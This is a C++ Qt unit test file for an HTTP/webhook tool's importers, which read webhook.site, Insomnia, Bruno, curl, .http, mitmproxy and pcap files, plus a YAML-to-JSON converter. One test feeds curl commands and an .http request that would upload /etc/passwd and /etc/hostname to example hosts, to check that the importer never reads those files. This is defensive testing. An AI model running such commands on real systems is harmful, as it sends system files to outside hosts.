// SPDX-License-Identifier: GPL-3.0-or-later
// Files as other programs write them, and what is read of them.
#include "app/formats/importer.h"
#include "app/formats/yaml_text.h"
#include "app/http/request_parser.h"

#include <QBuffer>
#include <QFile>
#include <QTest>

using namespace Qt::Literals::StringLiterals;

namespace hookbench::formats {

namespace {

class ListingTarget final : public ImportTarget
{
public:
    Result<void> take(Exchange exchange, Annotation) override
    {
        const http::RequestHead head = readRequestHead(exchange);
        QByteArray line = head.method + ' ' + head.target;
        for (const char* name : {"x-a", "x-two", "x-off", "x-long", "content-type", "authorization"}) {
            if (head.headers.contains(name))
                line += " | " + QByteArray(name) + ": " + head.headers.valueOf(name).toByteArray();
        }
        line += " | " + http::decodeBodySection(exchange.requestBody.inlined, exchange.requestFraming);
        if (exchange.summary.status > 0)
            line += " | " + QByteArray::number(exchange.summary.status) + ' ' +
                    http::decodeBodySection(exchange.responseBody.inlined, exchange.responseFraming);
        lines += line;
        exchanges.push_back(std::move(exchange));
        return {};
    }

    Result<void> takeDraft(Draft draft) override
    {
        lines += draft.method + ' ' + draft.url + " | " + draft.body.text;
        return {};
    }

    void report(ImportProblem problem) override { problems += problem.place + u": "_s + problem.message; }

    QByteArrayList lines;
    QStringList problems;
    std::vector<Exchange> exchanges;
};

QByteArray dataFile(const char* name)
{
    QFile file(QStringLiteral(HOOKBENCH_TEST_DATA "/imports/") + QLatin1StringView(name));
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

/// Reads a file as what it is recognised as.
QByteArray readInto(ListingTarget& target, const QByteArray& bytes)
{
    for (const auto& importer : builtinImporters()) {
        if (!importer->recognises(bytes))
            continue;
        QBuffer buffer;
        buffer.setData(bytes);
        buffer.open(QIODevice::ReadOnly);
        ImportStart start;
        start.nowUs = 1;
        const Result<void> read = importer->read(buffer, start, target);
        return read ? importer->format().name : read.error().message.toUtf8();
    }
    return "unknown";
}

} // namespace

class TestForeignImports : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void readsWhatOthersWrite_data()
    {
        QTest::addColumn<QByteArray>("format");
        QTest::addColumn<QByteArrayList>("lines");
        QTest::addColumn<int>("problems");
        const QByteArrayList packets{"POST /a | 0123456789 | 200 ok", "GET /b |  | 404 abc"};
        QTest::newRow("webhook_site.json")
            << "webhook-site"_ba
            << QByteArrayList{"POST /2d1f/in?x=1 | x-two: 1 | content-type: application/json | {\"a\":\"ä\"}"}
            << 1;
        QTest::newRow("request_baskets.json")
            << "request-baskets"_ba << QByteArrayList{"PUT /basket/in?a=b | content-type: text/plain | hello"}
            << 0;
        QTest::newRow("webhook_tester_v1.json")
            << "webhook-tester"_ba
            << QByteArrayList{"POST /5f6e | content-type: application/octet-stream | " +
                              QByteArray("\0\xff\1", 3)}
            << 0;
        QTest::newRow("webhook_tester_v2.json")
            << "webhook-tester"_ba << QByteArrayList{"DELETE /5f6e/x | hi"} << 0;
        QTest::newRow("insomnia4.json")
            << "insomnia"_ba << QByteArrayList{"POST /a?b=1 | x-a: 1 | {\"a\":1}", "POST /f | a%20b=c%26d"}
            << 0;
        QTest::newRow("insomnia5.yaml")
            << "insomnia"_ba
            << QByteArrayList{"POST /orders?x=1 | x-long: a text that is folded over two lines | "
                              "content-type: "
                              "application/json | {\n  \"a\": \"b: c\",\n\n  \"list\": [1, 2]\n}",
                              "GET /plain | "}
            << 0;
        QTest::newRow("bruno.json") << "bruno"_ba << QByteArrayList{"POST /o | x-a: 1 | {\"a\":1}"} << 0;
        QTest::newRow("order.bru")
            << "bruno"_ba
            << QByteArrayList{"POST /orders | content-type: application/json | {\n  \"a\": 1\n}"} << 0;
        QTest::newRow("commands.sh") << "curl"_ba
                                     << QByteArrayList{"POST https://example.test/a | one\ntwo",
                                                       "POST https://example.test/b | "}
                                     << 1;
        QTest::newRow("wire.request") << "raw"_ba << QByteArrayList{"POST /hook?x=1 | hi"} << 0;
        QTest::newRow("orders_vscode.http")
            << "http"_ba
            << QByteArrayList{"POST /orders?x=1 | content-type: application/json | authorization: Bearer abc "
                              "| "
                              "{\"a\": 1}",
                              "GET /{{unknown}} | "}
            << 0;
        QTest::newRow("flows.mitm") << "mitmproxy"_ba
                                    << QByteArrayList{"POST /in?x=1 | x-a: 1 | a=b | 201 ok"} << 1;
        QTest::newRow("two.pcap") << "pcap"_ba << packets << 1;
        QTest::newRow("two.pcapng") << "pcap"_ba << packets << 1;
    }

    void readsWhatOthersWrite()
    {
        QFETCH(const QByteArray, format);
        QFETCH(const QByteArrayList, lines);
        QFETCH(const int, problems);
        ListingTarget target;
        QCOMPARE(readInto(target, dataFile(QTest::currentDataTag())), format);
        QCOMPARE(target.lines, lines);
        QVERIFY2(target.problems.size() == problems, qPrintable(target.problems.join(u'\n')));
    }

    void readsNoFileThatIsNamed()
    {
        ListingTarget target;
        readInto(target,
                 "curl -d @/etc/hostname https://example.test/b\ncurl -T /etc/passwd https://a.test/\n");
        for (const QByteArray& line : std::as_const(target.lines))
            QVERIFY(!line.contains("root:"));
        ListingTarget http;
        readInto(http, "POST https://a.test/x\n\n< /etc/passwd\n");
        QCOMPARE(http.lines, QByteArrayList{"POST /x | "});
        QCOMPARE(http.problems.size(), 1);
    }

    void tellsTimesAndPeersOfPackets()
    {
        ListingTarget target;
        readInto(target, dataFile("two.pcapng"));
        QCOMPARE(target.exchanges.size(), size_t(2));
        const Exchange& first = target.exchanges.front();
        QCOMPARE(first.summary.atUs, 1795463472003000); // of the packet with the first byte
        QCOMPARE(first.summary.peer, "127.0.0.1:5000");
        QCOMPARE(first.summary.endpoint, "http://127.0.0.2:80");
        QCOMPARE(target.exchanges.back().sequence, 2);
    }

    void growsNoTextByVariables()
    {
        QByteArray text = "@a=" + QByteArray(60'000, 'x') + "\nPOST https://a.test/\n\n";
        text += QByteArray("{{a}}").repeated(100'000);
        ListingTarget target;
        QCOMPARE(readInto(target, text), "http");
        QVERIFY(target.lines.first().size() < 64 * 1024 * 1024);
    }

    void readsYaml_data()
    {
        QTest::addColumn<QByteArray>("yaml");
        QTest::addColumn<QByteArray>("json");
        QTest::newRow("empty") << ""_ba
                               << "null"_ba;
        QTest::newRow("scalars") << "a: 1\nb: -2.5\nc: true\nd: ~\ne: x y\nf: '1'\n"_ba
                                 << R"({"a":1,"b":-2.5,"c":true,"d":null,"e":"x y","f":"1"})"_ba;
        QTest::newRow("lists") << "- a\n- - b\n  - c\n- k: v\n  l: w\n-\n  m: n\n"_ba
                               << R"(["a",["b","c"],{"k":"v","l":"w"},{"m":"n"}])"_ba;
        QTest::newRow("list at the key") << "a:\n- 1\n- 2\nb: {\"x\": [1]}\n"_ba
                                         << R"({"a":[1,2],"b":{"x": [1]}})"_ba;
        QTest::newRow("blocks") << "a: |\n  x\n\n   y\nb: >-\n  p\n  q\n\n  r\nc: |+\n  z\n\nd: 1\n"_ba
                                << R"({"a":"x\n\n y\n","b":"p q\nr","c":"z\n\n","d":1})"_ba;
        QTest::newRow("folded") << "a: \"x\n  y\\\n  z\"\nb: p\n  q\n"_ba
                                << R"({"a":"x yz","b":"p q"})"_ba;
        QTest::newRow("quotes") << "\"k: 1\": 'it''s'\nu: \"\\x41\\u00e9\"\n"_ba
                                << "{\"k: 1\":\"it's\",\"u\":\"A\xc3\xa9\"}"_ba;
        QTest::newRow("remarks") << "# a\na: 1 # b\n\n# c\nb: x#y\n"_ba
                                 << R"({"a":1,"b":"x#y"})"_ba;
        QTest::newRow("anchor") << "a: &x 1\n"_ba << QByteArray();
        QTest::newRow("wrong indentation") << "a: 1\n  b: 2\n c: 3\n"_ba << QByteArray();
    }

    void readsYaml()
    {
        QFETCH(const QByteArray, yaml);
        QFETCH(const QByteArray, json);
        const Result<QByteArray> read = yamlToJson(yaml);
        QCOMPARE(read.has_value(), !json.isEmpty());
        QCOMPARE(read.value_or(QByteArray()), json);
    }
};

} // namespace hookbench::formats

QTEST_GUILESS_MAIN(hookbench::formats::TestForeignImports)
#include "tst_foreign_imports.moc"
